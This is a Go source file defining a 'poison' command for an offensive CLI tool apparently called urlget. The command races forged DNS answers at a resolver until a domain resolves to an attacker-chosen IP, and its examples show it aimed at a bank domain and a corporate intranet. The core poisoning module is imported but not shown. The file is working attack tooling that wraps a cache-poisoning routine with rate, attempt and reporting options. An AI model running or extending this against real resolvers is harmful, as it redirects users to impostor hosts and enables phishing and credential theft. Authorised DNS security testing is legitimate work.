// cmd/poison.go
package cmd

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"time"

	"github.com/SaudiLinux/urlget/internal/core"
	"github.com/SaudiLinux/urlget/internal/core/logger"
	"github.com/SaudiLinux/urlget/internal/modules/dns_attacks"
	"github.com/SaudiLinux/urlget/internal/reporting"
	"github.com/fatih/color"
	"github.com/spf13/cobra"
)

var (
	poisonSpoofIP    string
	poisonNameserver string
	poisonAttempts   int
	poisonRate       float64
	poisonTimeout    time.Duration
	poisonOutputPath string
)

var poisonCmd = &cobra.Command{
	Use:   "poison <domain>",
	Short: "Try to poison a resolver's cache for a domain.",
	Long: `Sends a real query for DOMAIN to the resolver followed by a forged answer
pointing at --spoof-ip, then checks whether the resolver now returns the
forged address. Repeats until it does or the attempts run out.`,
	Example: `  urlget poison bank.example --spoof-ip 10.0.0.66 -n 192.168.1.1
  urlget poison intranet.corp --spoof-ip 10.0.0.66 --attempts 1000 --rate 50`,
	Args: cobra.ExactArgs(1),
	RunE: func(cmd *cobra.Command, args []string) error {
		target := args[0]
		spoofIP := poisonSpoofIP
		if spoofIP == "" {
			spoofIP = config.Redirect
		}

		ns := config.Nameserver
		if cmd.Flags().Changed("nameserver") {
			ns = poisonNameserver
		}
		if ns == "" {
			if system := core.SystemNameservers(); len(system) > 0 {
				ns = system[0]
			}
		}

		p := dns_attacks.NewCachePoisoner(config.Timeout.Std(), config.PoisonRate)
		p.Log = logger.GetLogger()
		attempts := config.Attempts
		f := cmd.Flags()
		if f.Changed("attempts") {
			attempts = poisonAttempts
		}
		if f.Changed("rate") {
			p.Rate = poisonRate
		}
		if f.Changed("timeout") {
			p.Timeout = poisonTimeout
		}

		ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
		defer stop()

		color.Cyan("\n☠️  Poisoning %s at %s with %s...", target, ns, spoofIP)
		stopSpinner := core.StartSpinner(fmt.Sprintf("racing forged answers (%d attempts max)", attempts))
		result, err := p.Poison(ctx, target, spoofIP, ns, attempts)
		stopSpinner()
		if err != nil {
			return err
		}

		if result.Success {
			color.Red("🚨 %s now resolves to %s via %s (attempt %d)", target, result.SpoofIP, result.Nameserver, len(result.Attempts))
		} else {
			color.Yellow("⚠️  Cache poisoning of %s failed after %d attempts.", target, len(result.Attempts))
		}

		path := poisonOutputPath
		if path == "" {
			path = config.Output
		}
		if path != "" {
			report := reporting.NewReportGenerator(
				reporting.Entry{Key: "target", Value: result.Target},
				reporting.Entry{Key: "spoof_ip", Value: result.SpoofIP},
				reporting.Entry{Key: "nameserver", Value: result.Nameserver},
				reporting.Entry{Key: "success", Value: result.Success},
				reporting.Entry{Key: "attempts", Value: len(result.Attempts)},
			)
			saved, err := report.Save(path)
			if err != nil {
				return err
			}
			color.Cyan("📄 Results saved to %s", saved)
		}
		return nil
	},
}

func init() {
	rootCmd.AddCommand(poisonCmd)
	f := poisonCmd.Flags()
	f.StringVar(&poisonSpoofIP, "spoof-ip", "", "IPv4 address to plant for the domain")
	f.StringVarP(&poisonNameserver, "nameserver", "n", "", "Resolver to poison (default: first system resolver)")
	f.IntVarP(&poisonAttempts, "attempts", "a", core.DefaultAttempts, "Maximum inject-and-verify rounds")
	f.Float64Var(&poisonRate, "rate", 0, "Attempts per second, 0 for unlimited")
	f.DurationVarP(&poisonTimeout, "timeout", "w", core.DefaultProbeTimeout, "Verification query timeout")
	f.StringVarP(&poisonOutputPath, "output", "o", "", "Save the outcome (.txt, .json or .html)")
}
